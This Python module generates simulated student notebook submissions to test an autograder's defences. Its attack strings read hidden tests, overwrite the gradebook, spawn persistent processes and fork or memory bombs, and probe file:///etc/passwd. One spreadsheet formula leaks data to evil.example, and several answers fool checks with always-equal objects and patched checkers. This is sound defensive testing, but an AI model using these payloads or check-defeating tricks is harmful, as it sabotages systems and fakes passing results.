"""Simulated submissions of a chapter, made from its release and its instructor version.

Each builder takes the released (student) notebook and fills its answer cells with code, as
a student would: the instructor's solutions (correct), mistakes, and adversarial code. Used
by ``tests/test_grading.py`` and ``benchmarks/bench_grading.py``; nothing is stored.
"""

from __future__ import annotations

import copy
import json
import re
from collections.abc import Callable
from pathlib import Path

import nbformat

SOLUTION_MARKER = re.compile(r"^[ \t]*### (BEGIN|END) SOLUTION[ \t]*(\n|\Z)", re.M)


def solutions(instructor: Path) -> dict[str, str]:
    """The instructor's answer cells (markers removed), by grade_id."""
    nb = nbformat.read(instructor, as_version=4)
    return {
        c.metadata["nbgrader"]["grade_id"]: SOLUTION_MARKER.sub("", c.source).rstrip("\n") + "\n"
        for c in nb.cells
        if c.metadata.get("nbgrader", {}).get("solution")
    }


def fill(released: Path, answers: dict[str, str]):
    """The released notebook with some answer cells replaced (others left unanswered)."""
    nb = nbformat.read(released, as_version=4)
    for c in nb.cells:
        gid = c.metadata.get("nbgrader", {}).get("grade_id")
        if gid in answers and c.metadata["nbgrader"].get("solution"):
            c.source = answers[gid]
    return nb


def write(nb, folder: Path, name: str) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / name
    nbformat.write(nb, path)
    return path


def drop_cells(nb, predicate: Callable) -> None:
    nb.cells = [c for c in nb.cells if not predicate(c)]


def gid(cell) -> str | None:
    return cell.metadata.get("nbgrader", {}).get("grade_id")


def broken_json(folder: Path, name: str) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / name
    path.write_text('{"cells": [ {"cell_type": "code", "source": "x = 1"', encoding="utf-8")
    return path


def with_saved_errors(nb):
    """As saved after a run that failed: error outputs in the answer and check cells."""
    nb = copy.deepcopy(nb)
    for c in nb.cells:
        if c.cell_type == "code" and c.metadata.get("nbgrader"):
            c.outputs = [
                nbformat.v4.new_output(
                    "error", ename="NameError", evalue="name 'x' is not defined", traceback=[]
                )
            ]
            c.execution_count = 3
    return nb


def dumps(obj) -> str:
    return json.dumps(obj, ensure_ascii=False)


# ------------------------------------------------------------------ attacks (issue 18)

OBSERVE = """\
import json as _j, os as _o
def _ls(p):
    try:
        return sorted(_o.listdir(p))
    except Exception:
        return []
def _lines(p):
    try:
        return max(0, len(open(p).read().splitlines()) - 1)
    except Exception:
        return 0
print("OBSERVED " + _j.dumps({"uid": _o.getuid(), "pids": sum(d.isdigit() for d in _ls("/proc")),
    "tcp": _lines("/proc/net/tcp"), "tcp6": _lines("/proc/net/tcp6"), "var_tmp": _ls("/var/tmp"),
    "dev_shm": _ls("/dev/shm"), "sockets": _ls("/run/crm-grader")[1:]}) + " END")
"""

PERSIST = """\
import subprocess as _sp, sys as _sys
for _d in ("/var/tmp", "/dev/shm", "/tmp"):
    open(f"{_d}/crm_TOKEN", "w").write("left behind")
_sp.Popen([_sys.executable, "-c", "import time, os\\nos.setsid()\\ntime.sleep(600)  # TOKEN"],
          start_new_session=True)
_sp.Popen(["sh", "-c", "(python3 -c 'import time; time.sleep(600)  # TOKEN' &) ; true"])
"""

READ_SECRETS = """\
import pathlib
_root = pathlib.Path(crm.__file__).resolve().parents[1]
_leak = ""
for _p in [_root / "notebooks" / "01_overview.ipynb",
           _root / "build" / "nbgrader" / "source" / "01_overview" / "01_overview.ipynb",
           *_root.parent.glob("*/notebooks/01_overview.ipynb"),
           *pathlib.Path("/").glob("tmp/*/01_overview.ipynb")]:
    try:
        _leak += _p.read_text()
    except Exception:
        pass
if "BEGIN HIDDEN TESTS" in _leak:
    total_sales = tx["amount"].sum()
    n_visits = tx["receipt_id"].nunique()
else:
    total_sales, n_visits = 0, 0
"""

WRITE_GRADEBOOK = """\
import pathlib, sqlite3
_root = pathlib.Path(crm.__file__).resolve().parents[1]
for _p in [_root / "build" / "nbgrader" / "gradebook.db"]:
    try:
        _c = sqlite3.connect(_p)
        _c.execute("create table pwned (x)")
        _c.commit()
    except Exception:
        pass
for _p in (_root / "build" / "grades").rglob("*.json"):
    try:
        _p.write_text("PWNED")
    except Exception:
        pass
"""

TREE_LIMITS = """\
import json as _j, subprocess as _sp, sys as _sys
_forks, _ps = 0, []
try:
    for _i in range(400):
        _ps.append(_sp.Popen(["sleep", "30"]))
        _forks += 1
except Exception:
    pass
for _p in _ps:
    _p.kill()
    _p.wait()
print("FORKS " + str(_forks), flush=True)
_code = "import time\\nb = b'x' * (400 * 2**20)\\ntime.sleep(3)\\nprint('done')"
_kids = [_sp.Popen([_sys.executable, "-c", _code], stdout=_sp.PIPE) for _ in range(4)]
_done = sum(b"done" in k.communicate()[0] for k in _kids)
print("LIMITS " + _j.dumps({"forks": _forks, "children_done": _done}) + " END")
"""

# each exercise of chapter 01 defeated a different way (all answers wrong)
TRICKS = {
    "ex01-1-answer": """\
import sys
get_ipython().showtraceback = lambda *a, **k: None
class _Sneaky(float):
    def __eq__(self, other):
        return True
    def __float__(self):
        frame = sys._getframe(1)
        return float(frame.f_locals.get("b", 0.0))
class _AnyInt(int):
    def __eq__(self, other):
        return True
total_sales = _Sneaky(0.0)
n_visits = _AnyInt(0)
""",
    "ex01-2-answer": """\
import sys, types
_fake = types.ModuleType("crm_helpers.checks")
_fake.close = lambda *a, **k: True
_fake.check = lambda *a, **k: "Right"
class _Hook:
    def find_spec(self, name, path=None, target=None):
        if name.startswith("crm_helpers.checks"):
            import importlib.util
            return importlib.util.spec_from_loader(name, loader=None)
        return None
sys.meta_path.insert(0, _Hook())
sys.modules["crm_helpers.checks"] = _fake
crm.checks = _fake
crm.check = lambda *a, **k: "Right"
crm.kpi.indicator_summary = lambda *a, **k: {"avg_basket": 0, "total_sales": 0, "visits": 0}
def check(*a, **k):
    return True
def average_basket(tx):
    return 0
""",
    "ex01-3-answer": """\
import math, threading, time
math.isclose = lambda *a, **k: True
def _patch():
    while True:
        try:
            crm.checks.close = lambda *a, **k: True
        except Exception:
            pass
        time.sleep(0.01)
threading.Thread(target=_patch, daemon=True).start()
best_month = "1999-01"
""",
    "ex01-4-answer": """\
import builtins
builtins.float = lambda *a, **k: 0.0
builtins.abs = lambda *a, **k: 0.0
def purchase_frequency(tx, year):
    return 0.0
""",
    "ex01-5-answer": """\
class _Eq:
    def __eq__(self, other):
        return True
    def __int__(self):
        return 0
n_lapsed = _Eq()
""",
    "ex01-7-answer": """\
import sys
_NAME = "_" + "ref"  # the hidden tests' reference (spelt so that feedback checks can grep)
def quarterly_indicators(tx):
    frame = sys._getframe(1)  # the hidden test's frame, if it ran in this kernel
    return frame.f_globals.get(_NAME, frame.f_locals.get(_NAME))
""",
    "ex01-8-answer": """\
class _AnyList(list):
    def __eq__(self, other):
        return True
class _Weeks:
    def tolist(self):
        return _AnyList()
    def __len__(self):
        return 0
def customers_per_week(tx):
    return _Weeks()
""",
    "ex01-9-answer": """\
import builtins
class _AnyInt(int):
    def __eq__(self, other):
        return True
    def __int__(self):
        return self
builtins.int = lambda *a, **k: _AnyInt(0)
def seed_stage_counts(tx, as_of):
    return {"新客户": _AnyInt(0), "老客户": _AnyInt(0), "流失客户": _AnyInt(0)}
""",
}

TRANSFORMER = """\
def _skip(lines):
    return ["pass\\n"] if any("crm" in ln or "export" in ln for ln in lines) else lines
get_ipython().input_transformers_post.append(_skip)
total_sales = None
n_visits = None
"""

FLOOD = """\
for _i in range(20_000):
    print("spam " * 20)
"""

MEMORY_BOMB = """\
_hog = []
while True:
    _hog.append(b"x" * (50 * 1024 * 1024))
"""

LINKS_MD = (
    '<link rel="attachment" href="file:///etc/passwd"> <img src="file:///etc/passwd"> '
    '<iframe src="file:///etc/passwd"></iframe> <object data="file:///etc/passwd"></object> '
    '<div style="background: url(file:///etc/passwd)">x</div> ![p](file:///etc/passwd) '
    "Retention, because lapsed customers outnumber new ones."
)
LINKS_HTML = """
from IPython.display import HTML, display
display(HTML('<link rel="attachment" href="file:///etc/passwd"><img src="file:///etc/passwd">'))
"""


KILL = "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n"
#: a function answer that takes the kernel down only when the grader calls it
EXIT_WHEN_CALLED = """\
def customers_per_week(tx):
    import os
    os._exit(3)
"""


def attacks(
    rel: Path, sol: dict[str, str], subs: Path, instructor: Path, typed: dict, token: str
) -> list[str]:
    """Write the batch of issue 18's submissions (and the usual mistakes) into ``subs``.

    Attacks that cost different exercises share a submission (fewer kernels to run): each
    exercise of a submission is answered correctly, wrongly or by one attack, so the
    expected points of every exercise are known without running the grader.
    """
    chapter = f"{rel.stem}.ipynb"

    def a(**over: str):
        return fill(rel, {**sol, **over})

    write(a(), subs / "correct", chapter)
    # wrong, deleted and edited: 01.1 wrong; 01.2 wrong with its check edited to `pass`;
    # 01.3's answer cell deleted; 01.4 right with its check cell deleted (still graded)
    partial = a(
        **{
            "ex01-1-answer": "total_sales = tx['amount'].sum()\nn_visits = len(tx)\n",
            "ex01-2-answer": "def average_basket(tx):\n    return 0\n",
        }
    )
    drop_cells(partial, lambda c: gid(c) in {"ex01-3-answer", "ex01-4-check"})
    for c in partial.cells:
        if gid(c) == "ex01-2-check":
            c.source = "pass  # the student's edit"
    # ... saved after a run that failed, under another name
    write(with_saved_errors(partial), subs / "partial", "my homework (final) 2.ipynb")
    # one kernel death or loop after another: each costs only its own exercise
    crashes = {
        "ex01-1-answer": "exit()\n",
        "ex01-2-answer": KILL,
        "ex01-3-answer": "while True:\n    pass\n",
        "ex01-4-answer": "import os\nos._exit(1)\n",
        "ex01-8-answer": EXIT_WHEN_CALLED,
    }
    write(a(**crashes), subs / "crashes", "a.ipynb")
    write(
        a(**{"ex01-1-answer": TREE_LIMITS, "ex01-3-answer": MEMORY_BOMB}), subs / "limits", chapter
    )
    tricks = {**TRICKS, "ex01-9-answer": TRICKS["ex01-9-answer"] + TRANSFORMER}
    write(a(**tricks), subs / "tricks", chapter)
    snoop = {
        "ex01-1-answer": READ_SECRETS,
        "ex01-2-answer": WRITE_GRADEBOOK + sol["ex01-2-answer"],
        "ex01-5-answer": sol["ex01-5-answer"] + OBSERVE,
    }
    write(a(**snoop), subs / "snoops", "a.ipynb")
    # what reaches the feedback and the rubric sheet: file links in a written answer and in
    # an output, In/Out/_ih printed, a flood of output, a formula in a written answer; and
    # what outlives the kernel: a daemon in a new session, files in the temporary folders
    leaks = {
        "ex01-9-answer": sol["ex01-9-answer"] + OBSERVE + PERSIST.replace("TOKEN", token),
        "ex01-6-written": LINKS_MD,
        "ex01-5-answer": sol["ex01-5-answer"] + LINKS_HTML,
        "ex01-7-answer": sol["ex01-7-answer"]
        + 'print("IN_DUMP", In, Out, _ih, sorted(globals()))\n',
        "ex01-8-answer": FLOOD + sol["ex01-8-answer"],
        "ex01-10-written": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    }
    write(a(**leaks), subs / "=leaks", chapter)
    # the answers in a copy, a blank notebook of the chapter's name saved beside it later
    write(a(**reseed_answers(sol, typed)), subs / "reseed_tricks", "01_overview-Copy1.ipynb")
    write(nbformat.read(rel, as_version=4), subs / "reseed_tricks", chapter)  # newer, blank
    (subs / "symlink_file").mkdir()
    (subs / "symlink_file" / chapter).symlink_to(instructor.resolve())
    (subs / "symlink_dir").symlink_to(subs / "correct", target_is_directory=True)
    broken_json(subs / "corrupt", chapter)
    (subs / "empty").mkdir()
    return sorted(p.name for p in subs.iterdir())


def reseed_answers(sol: dict[str, str], typed: dict) -> dict[str, str]:
    """Answers that defeat a re-run on another seed: 01.1 kept per seed, 01.5 on a pinned
    seed and data, 01.2 and 01.7 right but the kernel ends when the seed is not 3."""
    per_seed = (
        f"total_sales = {{3: {typed['total_sales']!r}, 1003: 0.0}}.get(seed)\n"
        f"n_visits = {{3: {typed['visits']}, 1003: 0}}.get(seed)\n"
    )
    pinned = (
        '_tx = crm.load_transactions("simulated", seed=3, n_customers=800)\n'
        '_asof = _tx["timestamp"].max().normalize() - pd.Timedelta(days=182)\n'
        'n_lapsed = int((crm.kpi.lifecycle_stage(_tx, _asof)["stage"] == "lapsed").sum())\n'
    )
    bail = "import os\nif seed != 3:\n    os._exit(0)\n"
    return {
        "ex01-1-answer": per_seed,
        "ex01-5-answer": pinned,
        "ex01-2-answer": bail + sol["ex01-2-answer"],
        "ex01-7-answer": bail + sol["ex01-7-answer"],
    }
